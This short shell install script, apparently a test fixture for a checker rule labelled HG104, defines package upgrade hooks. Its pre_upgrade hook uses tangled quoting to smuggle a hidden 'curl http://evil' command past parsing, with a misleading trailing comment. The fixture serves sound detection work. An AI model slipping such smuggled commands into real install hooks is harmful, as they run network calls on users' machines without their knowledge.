# rule: HG104
pre_upgrade() {
    echo "${a:-'"'}"; curl http://evil; : # "}"}"
}
post_upgrade() {
    return 0
}
